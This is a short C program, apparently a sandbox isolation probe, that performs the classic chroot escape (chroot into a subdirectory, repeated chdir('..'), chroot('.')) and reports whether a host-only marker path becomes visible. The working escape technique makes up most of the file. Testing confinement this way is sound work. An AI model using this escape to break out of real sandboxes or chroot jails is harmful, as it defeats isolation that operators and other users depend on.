/* chrootprobe: the classic chroot escape, as a process with CAP_SYS_CHROOT.
 *
 *   chrootprobe MARKER [N]
 *
 * In /tmp: mkdir chrootprobe.d; chroot("chrootprobe.d") (the cwd is now
 * outside the root); chdir("..") N times (default 64) to climb past the
 * old root; chroot("."). Then reports whether MARKER, a path that exists
 * only on the host, is visible. In a container the climb stops at the
 * root of its mount namespace (pivot_root), so the marker stays absent;
 * in a plain chroot(1) on the host the climb reaches the host's root.
 *
 * Output: one line per step ("chroot: ok" / "chroot: errno=1 (...)"), then
 *   marker MARKER: visible     or    marker MARKER: absent errno=2
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int step(const char *what, int rc)
{
	if (rc == 0)
		printf("%s: ok\n", what);
	else
		printf("%s: errno=%d (%s)\n", what, errno, strerror(errno));
	return rc;
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: chrootprobe MARKER [N]\n");
		return 2;
	}
	int n = argc > 2 ? atoi(argv[2]) : 64;
	struct stat st;
	if (step("chdir /tmp", chdir("/tmp")) != 0)
		return 1;
	if (mkdir("chrootprobe.d", 0700) != 0 && errno != EEXIST)
		step("mkdir", -1);
	if (step("chroot inner", chroot("chrootprobe.d")) == 0) {
		for (int i = 0; i < n; i++)
			if (chdir("..") != 0)
				break;
		step("chroot .", chroot("."));
	}
	if (stat(argv[1], &st) == 0)
		printf("marker %s: visible\n", argv[1]);
	else
		printf("marker %s: absent errno=%d\n", argv[1], errno);
	return 0;
}
